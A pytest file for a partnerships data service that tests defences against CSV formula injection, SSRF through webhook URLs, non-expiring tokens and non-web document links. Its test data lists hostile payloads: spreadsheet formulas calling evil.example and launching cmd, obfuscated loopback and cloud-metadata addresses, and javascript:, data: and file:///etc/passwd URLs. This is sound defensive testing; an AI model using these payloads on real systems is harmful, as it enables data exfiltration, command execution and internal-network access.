"""Small input defects with large consequences: spreadsheet formulas in CSV exports, loopback
webhook URLs spelt as numbers, a token that never expires, a `javascript:` document link."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select, update

from core.cli import main
from core.config import Settings, get_settings
from core.db import create_engine, session_factory
from core.enums import Role
from core.exports.service import export_popolo
from core.exports.tables import to_csv
from core.models import ApiToken, AuditEvent, Partnership
from core.services import webhooks as wh
from tests.conftest import load_all, make_api

ADD_SEAT = """mutation ($input: AddSeatInput!) { addSeat(input: $input) { __typename } }"""
REGISTER = """mutation ($input: RegisterWebhookInput!) { registerWebhook(input: $input) {
  __typename ... on WebhookEndpointPayload { endpoint { id } }
  ... on UserError { message } ... on ValidationError { field } } }"""
UPDATE = """mutation ($input: UpdateWebhookInput!) { updateWebhook(input: $input) { __typename } }"""


# -- CSV formula injection ---------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Minutes")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


async def test_no_csv_cell_starts_a_spreadsheet_formula(api):
    """OWASP's CSV injection advice: a cell starting with = + - @, tab or carriage return is
    prefixed with a quote so a spreadsheet shows it as text instead of evaluating it."""
    group = await api.gql('{ partnership(code: "sandwell") { groups { nodes { id confidential } } } }')
    public = next(g for g in group["data"]["partnership"]["groups"]["nodes"] if not g["confidential"])
    token = await api.token("sandwell", Role.BUSINESS_UNIT)
    codes = {}
    for formula in FORMULAS:
        code = f"csv-{uuid.uuid4().hex[:8]}"
        body = await api.gql(ADD_SEAT, {"input": {"groupId": public["id"], "code": code, "role": "CO_OPTED",
                                                  "post": formula}}, token=token)
        assert body["data"]["addSeat"]["__typename"] == "SeatPayload", body
        codes[code] = formula

    response = await api.client.get("/partnerships/sandwell/seats.csv")
    assert response.status_code == 200
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(response.text))}
    for code, formula in codes.items():
        post = rows[code]["post"]
        assert post[0] not in "=+-@\t\r", post
        assert post.startswith("'") and formula.strip() in post  # shown as text, nothing lost
    # Every cell of every table, not only the one probed.
    for table in ("agencies", "statutory_partners", "people", "groups", "seats"):
        text = (await api.client.get(f"/partnerships/sandwell/{table}.csv")).text
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell)), cell


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_csv_writer_neutralises_each_formula_prefix():
    """Straight on the writer every export uses (HTTP and `partnerships export --format csv`)."""
    from core.arrangements import read_arrangements

    arrangements = read_arrangements(Path("plugins/merton/arrangements.toml"))
    seat = arrangements.seats[0]
    for formula in [*FORMULAS, "=1", "+", "-x", "@", "\t", "\r"]:
        changed = arrangements.model_copy(update={"seats": [seat.model_copy(update={"post": formula})]})
        [row] = list(csv.DictReader(io.StringIO(to_csv(changed, "seats"))))
        assert row["post"] == "'" + formula, (formula, row["post"])
    for harmless in ["Director of Children's Services", "-12", "-1.5", "", "x=1"]:
        changed = arrangements.model_copy(update={"seats": [seat.model_copy(update={"post": harmless})]})
        [row] = list(csv.DictReader(io.StringIO(to_csv(changed, "seats"))))
        assert row["post"] == harmless


# -- webhook URLs: loopback and private addresses in any numeric spelling -----------------------

INSIDE = [
    "2130706433", "0x7f000001", "0x7f.1", "127.1", "0177.0.0.1", "0", "0x7f.0x0.0x0.0x1", "017700000001",
    "127.0.0.1.", "0.0.0.0", "00", "0x0", "3232235777", "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "10.1",
    "[::1]", "[0:0:0:0:0:0:0:1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::ffff:169.254.169.254]",
    "[::127.0.0.1]", "[fe80::1%25eth0]", "[fc00::1]", "[2002:7f00:1::]", "[64:ff9b::7f00:1]", "[64:ff9b::a9fe:a9fe]",
    "１２７.０.０.１", "LOCALHOST", "localhost.",
]


@pytest.mark.parametrize("host", INSIDE)
async def test_a_webhook_url_may_not_name_an_inside_address_in_any_spelling(api, monkeypatch, host):
    monkeypatch.setenv("PARTNERSHIPS_WEBHOOK_ALLOW_PRIVATE_ADDRESSES", "false")
    wh.get_integration_settings.cache_clear()
    try:
        body = await api.gql(REGISTER, {"input": {"partnership": "merton", "url": f"http://{host}:8080/hooks",
                                                  "secret": "s" * 20}}, as_role=("merton", Role.ADMINISTRATOR))
    finally:
        wh.get_integration_settings.cache_clear()
    result = body["data"]["registerWebhook"]
    if result["__typename"] == "WebhookEndpointPayload":  # never leave a live endpoint behind
        await api.gql(UPDATE, {"input": {"id": result["endpoint"]["id"], "active": False}},
                      as_role=("merton", Role.ADMINISTRATOR))
    assert result["__typename"] == "ValidationError" and result["field"] == "url", (host, result)
    assert "public internet" in result["message"]


@pytest.mark.parametrize("host", ["hooks.example.org", "93.184.216.34", "1572395042", "[2606:2800:220:1::1]"])
async def test_a_public_address_in_any_spelling_is_still_accepted(api, monkeypatch, host):
    monkeypatch.setenv("PARTNERSHIPS_WEBHOOK_ALLOW_PRIVATE_ADDRESSES", "false")
    wh.get_integration_settings.cache_clear()
    try:
        body = await api.gql(REGISTER, {"input": {"partnership": "merton", "url": f"https://{host}/hooks",
                                                  "secret": "s" * 20}}, as_role=("merton", Role.ADMINISTRATOR))
    finally:
        wh.get_integration_settings.cache_clear()
    result = body["data"]["registerWebhook"]
    assert result["__typename"] == "WebhookEndpointPayload", (host, result)
    await api.gql(UPDATE, {"input": {"id": result["endpoint"]["id"], "active": False}},
                  as_role=("merton", Role.ADMINISTRATOR))


# -- `token create --days` -----------------------------------------------------------------------


async def _cli(url: str, *args: str):
    """Run the CLI against ``url`` (in a thread: the commands run their own event loop)."""
    def invoke():
        get_settings.cache_clear()
        try:
            return CliRunner().invoke(main, list(args), env={"PARTNERSHIPS_DATABASE_URL": url})
        finally:
            get_settings.cache_clear()

    return await asyncio.to_thread(invoke)


async def _count(url: str, model) -> int:
    engine = create_engine(Settings(database_url=url), url)
    try:
        async with session_factory(engine)() as session:
            return await session.scalar(select(func.count()).select_from(model))
    finally:
        await engine.dispose()


@pytest.mark.parametrize("days", ["0", "-3"])
async def test_a_token_lifetime_must_be_at_least_a_day(empty_db, days):
    result = await _cli(empty_db, "token", "create", "--role", "administrator", "--days", days)
    assert result.exit_code == 2, result.output
    assert "days" in result.output and "pgt_" not in result.output and "Traceback" not in result.output
    assert await _count(empty_db, ApiToken) == 0 and await _count(empty_db, AuditEvent) == 0


async def test_a_token_is_created_with_a_positive_lifetime(empty_db):
    result = await _cli(empty_db, "token", "create", "--role", "administrator", "--days", "2")
    assert result.exit_code == 0, result.output
    assert result.output.startswith("pgt_") and "expires" in result.output
    assert await _count(empty_db, ApiToken) == 1


def test_the_default_token_lifetime_must_be_positive(monkeypatch):
    from pydantic import ValidationError

    monkeypatch.setenv("PARTNERSHIPS_TOKEN_LIFETIME_DAYS", "0")
    with pytest.raises(ValidationError):
        Settings()


# -- document URLs: the web only -----------------------------------------------------------------

BAD_URLS = ["javascript:alert(document.cookie)", "JavaScript:alert(1)", " javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x",
            "https:alert(1)"]


@pytest.mark.parametrize("url", BAD_URLS)
async def test_an_import_with_a_non_web_document_url_is_refused(api, tmp_path, url):
    async with session_factory(api.app.state.partnerships.engine)() as session:
        doc = await export_popolo(session, "sefton")
    code = f"js-{uuid.uuid4().hex[:8]}"
    root = next(o for o in doc["organizations"] if o["classification"] == "partnership")
    root["partnerships:code"] = code
    root["partnerships:document"]["url"] = url
    path = tmp_path / f"{code}.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    result = await _cli(api.url, "import", str(path))
    assert result.exit_code != 0 and "Traceback" not in result.output, result.output
    assert "url" in result.output
    async with session_factory(api.app.state.partnerships.engine)() as session:
        assert await session.scalar(select(Partnership.id).where(Partnership.code == code)) is None


async def test_a_stored_non_web_document_url_is_never_served(empty_db, registry):
    await load_all(empty_db, registry)
    engine = create_engine(Settings(database_url=empty_db), empty_db)
    try:
        async with session_factory(engine)() as session, session.begin():
            await session.execute(update(Partnership).where(Partnership.code == "merton")
                                  .values(document_url="javascript:alert(1)"))
            await session.execute(update(Partnership).where(Partnership.code == "sefton")
                                  .values(document_url="https://www.seftonscp.org.uk/arrangements"))
    finally:
        await engine.dispose()
    api = await make_api("x", empty_db, registry)
    try:
        body = await api.gql('{ partnerships { nodes { code document { url } } } }')
        urls = {n["code"]: n["document"]["url"] for n in body["data"]["partnerships"]["nodes"]}
        assert urls["merton"] is None and urls["sefton"] == "https://www.seftonscp.org.uk/arrangements"
        for code in ("merton", "sefton"):
            response = await api.client.get(f"/partnerships/{code}/popolo.json")
            assert response.status_code == 200
            assert "javascript:" not in response.text
        assert "seftonscp.org.uk" in (await api.client.get("/partnerships/sefton/popolo.json")).text
        assert "javascript:" not in (await api.client.get("/")).text
    finally:
        await api.client.aclose()
        await api.app.state.partnerships.engine.dispose()


# -- cursors beyond the id column ----------------------------------------------------------------

async def test_an_audit_cursor_beyond_any_event_id_is_bad_input_not_an_internal_error(api):
    """The audit trail's cursors carry an event id (keyset paging); the feed's are checked in
    test_api_errors.py."""
    import base64

    def cursor(value: int) -> str:
        return base64.urlsafe_b64encode(f"au:{value}".encode()).decode().rstrip("=")

    for value in (2**31, 2**63, 10**30, 0, -1):
        body = await api.gql('query ($a: String) { auditEvents(partnership: "merton", after: $a) { totalCount } }',
                             {"a": cursor(value)}, as_role=("merton", Role.SCRUTINEER), errors_ok=True)
        assert body["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT", body
